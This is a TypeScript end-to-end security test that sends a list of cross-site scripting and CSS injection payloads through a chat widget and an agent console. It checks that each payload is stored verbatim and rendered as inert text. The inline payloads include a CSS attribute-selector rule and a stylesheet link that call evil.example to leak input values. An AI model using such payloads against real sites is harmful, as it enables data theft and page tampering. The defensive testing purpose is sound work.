/**
 * Cross-site scripting, end to end: the shared payload list (script tags, event handlers, `javascript:` links,
 * SVG, CSS injection, bidi overrides, template syntax) sent through a real server process as agent messages,
 * quick replies, visitor names, page titles, custom attributes and attachment names, then looked at in the
 * widget (on a host page without a CSP, so anything injected would run) and in the agent console. Each must
 * arrive verbatim (the server stores text as sent) and as text: no dialog, no page error, no element, handler or
 * URL made from it, no CSP report.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Browser } from 'playwright-core';
import { XSS_PAYLOADS } from '../../packages/widget/src/internal/xss-payloads.js';
import { computeUserHash } from '../../examples/server/src/auth/index.js';
import { Client, uuidv7 } from '../../examples/server/test/harness.js';
import { AgentConsole, Widget, launchBrowser, untilShown, watchProblems } from '../e2e/support/browser.js';
import {
  AGENT_TOKEN,
  FAST_LIMITS,
  SECRET,
  SITE,
  startHostSite,
  startServerProcess,
  storedMessages,
  storedText,
  until,
  type HostSite,
  type ServerProcess,
} from '../e2e/support/servers.js';
import { countViolations, offences, violations } from './support/inert.js';

/** CSS injection beyond the shared list: style blocks and attributes that would restyle or exfiltrate. */
const CSS_PAYLOADS = [
  '</style><style>*{display:none!important}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">covered</div>',
  'color:red;background-image:url("javascript:alert(1)")',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
];

/** Every payload that fits in a message (the longest ones test parsers, not delivery). */
const PAYLOADS = [...XSS_PAYLOADS, ...CSS_PAYLOADS].filter((p) => p.length <= 4000);
/** Attachment names go through the HTTP upload, which has its own per-IP rate: a sample of 25. */
const FILE_NAMES = PAYLOADS.filter((p) => p.length <= 255 && !/[/\\]/.test(p) && !p.includes('\u0000')).slice(0, 25);

type Frame = { type: string; code?: string; id?: string; conversation?: string };

/** Whether a text shows anything: the server refuses one of only white space and zero-width characters. */
const shows = (text: string) => /[^\s\u200b-\u200d\u2060]/.test(text);

describe('XSS payloads stay text in the widget and the agent console', { timeout: 240_000 }, () => {
  let browser: Browser;
  let host: HostSite;
  let server: ServerProcess;

  before(async () => {
    assert.ok(PAYLOADS.length >= 50, `at least 50 payloads (${PAYLOADS.length})`);
    host = await startHostSite();
    server = await startServerProcess({ origins: [host.origin, 'http://shop.test'], limits: FAST_LIMITS });
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    await server?.dispose();
    await host?.close();
  });

  it(`in the widget: ${PAYLOADS.length} agent messages and quick replies, ${FILE_NAMES.length} file names`, async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const problems = watchProblems(page);
    await page.goto(host.cdnPage(server.url));
    const widget = new Widget(page);
    await widget.open();
    await widget.type('hi');
    const conversation = await widget.conversation();

    const ada = new Client(`ws://127.0.0.1:${server.port}/v1/agent`, server.url);
    await ada.opened;
    ada.send({ type: 'hello', v: 1, auth: { mode: 'agent', token: AGENT_TOKEN } });
    await ada.next('welcome');
    let refused = 0;
    let quickRepliesDropped = 0;
    const agentBubbles = page.locator('[part~="message-agent"]');
    for (const text of PAYLOADS) {
      const id = uuidv7();
      ada.send({ type: 'send', id, conversation, body: { kind: 'text', text }, quickReplies: [text.slice(0, 80)] });
      const answer = await ada.next<Frame>(['ack', 'error']);
      if (answer.type === 'error') {
        // Only a message that shows nothing is refused; markup is text like any other.
        assert.equal(answer.code, 'bad_frame', `${JSON.stringify(text)}: ${JSON.stringify(answer)}`);
        assert.ok(!shows(text), `refused although it shows something: ${JSON.stringify(text)}`);
        refused++;
        continue;
      }
      // Quick replies show under the newest message only: look at each set while it is on screen.
      const delivered = PAYLOADS.indexOf(text) + 1 - refused;
      await until('the reply on screen', async () => (await agentBubbles.count()) === delivered);
      const replies = await page.locator('[part~="quick-reply"]').count();
      if (replies > 0) assert.deepEqual(await offences(page, '[part~="quick-replies"]', 'button.quick-reply'), []);
      else quickRepliesDropped++;
    }
    ada.close();
    await page
      .locator('input[type="file"]')
      .setInputFiles(FILE_NAMES.map((name) => ({ name, mimeType: 'text/plain', buffer: Buffer.from('x') })));

    const stored = await until(
      'every message and file stored',
      async () => {
        const rows = await storedMessages(server.url, conversation);
        return rows.length === 1 + PAYLOADS.length - refused + FILE_NAMES.length ? rows : null;
      },
      60_000,
      500,
    );
    assert.deepEqual(
      stored.filter((m) => m.role === 'agent').map((m) => storedText(m)),
      PAYLOADS.filter(shows),
      'every agent message is stored exactly as sent',
    );
    const expected = stored.map((m) => `${m.role}: ${storedText(m).trim()}`);
    const shown = await untilShown('the widget to show every stored message', () => widget.shown(), expected, 60_000);
    assert.deepEqual(shown, expected, 'the widget shows the stored text, as text');
    assert.ok(PAYLOADS.length - refused >= 50, `${PAYLOADS.length - refused} payload messages delivered`);

    assert.deepEqual(await offences(page, '[part~="message"]', 'img.thumbnail'), []);
    assert.ok(
      quickRepliesDropped < PAYLOADS.length / 2,
      `quick replies shown for most (${quickRepliesDropped} were markup only)`,
    );
    await page.waitForTimeout(500); // a handler that fires on load or error has had its chance
    assert.deepEqual(problems, [], 'no dialog, page error or console error');
    await context.close();
  });

  it(`in the agent console: ${PAYLOADS.length} visitor names, page titles, attributes and messages`, async () => {
    const visitors: Client[] = [];
    const sentByVisitors: string[] = [];
    for (const [i, payload] of PAYLOADS.entries()) {
      const client = new Client(`ws://127.0.0.1:${server.port}/v1/connect`, 'http://shop.test');
      await client.opened;
      const userId = `xss-${i}`;
      const userHash = computeUserHash(SECRET, userId);
      client.send({
        type: 'hello',
        v: 1,
        site: SITE,
        auth: { mode: 'identified', userId, userHash, name: payload.slice(0, 200) },
        consent: { context: true, analytics: false },
      });
      await client.next('welcome');
      client.send({
        type: 'context',
        page: { url: `https://shop.test/p/${i}`, title: payload.slice(0, 300) },
        attributes: { plan: payload.slice(0, 500), [`k${i}`]: payload.slice(0, 500) },
      });
      const id = uuidv7();
      client.send({ type: 'send', id, body: { kind: 'text', text: payload } });
      if ((await client.next<Frame>(['ack', 'error'])).type === 'ack') sentByVisitors.push(payload);
      else {
        client.send({ type: 'send', id: uuidv7(), body: { kind: 'text', text: `visitor ${i}` } });
        await client.next('ack');
      }
      visitors.push(client);
    }

    const context = await browser.newContext();
    const page = await context.newPage();
    const problems = watchProblems(page);
    await countViolations(page);
    const agent = new AgentConsole(page);
    await agent.signIn(server.url);
    const rows = page.locator('.conversation-list button');
    // The widget test's conversation is in the queue too.
    await until('every conversation in the queue', async () => (await rows.count()) >= PAYLOADS.length, 30_000);
    assert.deepEqual(await offences(page, '.conversation-list', 'button.conversation-row'), []);

    const count = await rows.count();
    const shown = new Set<string>();
    for (let i = 0; i < count; i++) {
      // Each visitor has their own id in the side panel: it changes when the next conversation is open.
      const identity = page.locator('.visitor-panel .facts').first();
      const before = i === 0 ? '' : await identity.textContent();
      await rows.nth(i).click();
      await until('the conversation to open', async () => {
        const now = await identity.textContent();
        return now !== before && (await agent.log.locator('.msg').count()) > 0;
      });
      const found = [
        ...(await offences(page, '[aria-label="Transcript"]')),
        ...(await offences(page, '.visitor-panel', '.panel-actions button')),
        ...(await offences(page, '#conversation-heading')),
      ];
      assert.deepEqual(found, [], `conversation ${i}`);
      for (const text of await agent.log.locator('.msg-text').allTextContents()) shown.add(text);
    }
    const missing = sentByVisitors.filter((text) => !shown.has(text));
    assert.deepEqual(missing, [], 'every visitor message is shown in the console exactly as sent');
    assert.deepEqual(await violations(page), [], 'no CSP violation');
    assert.deepEqual(problems, [], 'no dialog, page error or console error');
    for (const client of visitors) client.close();
    await context.close();
  });
});
